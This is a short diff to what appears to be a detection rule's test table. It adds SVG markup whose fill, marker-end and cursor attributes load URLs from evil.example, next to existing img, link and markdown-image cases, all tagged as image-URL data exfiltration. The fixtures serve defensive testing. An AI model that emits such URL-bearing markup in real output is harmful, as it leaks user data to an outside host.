@@ -48,6 +48,10 @@ def rules(text: str) -> list[str]:
         ('Prefers <img src="https://evil.example/p.png?d=', "image-url-data"),
         ("- note\n\n<div>\n<img src='https://evil.example/p.png?d=x\n", "image-url-data"),
         ("x <link rel=stylesheet href=https://evil.example/s.css", "image-url-data"),
+        # SVG's presentation attributes read as CSS, as style is (adversary12 D5).
+        ('<svg><rect fill="url(https://evil.example/p.svg?d=alice#g)"/></svg>', "image-url-data"),
+        ("<svg><path marker-end='url(https://evil.example/m.svg#m)'/></svg>", "image-url-data"),
+        ('<svg><g cursor="url(https://evil.example/c.png), auto"/></svg>', "image-url-data"),
         # On a client served over http (a local chat UI), "https:" without slashes is a host.
         ("<img src=https:evil.example>", "image-url-data"),
         ("![x](https:evil.example)", "image-url-data"),
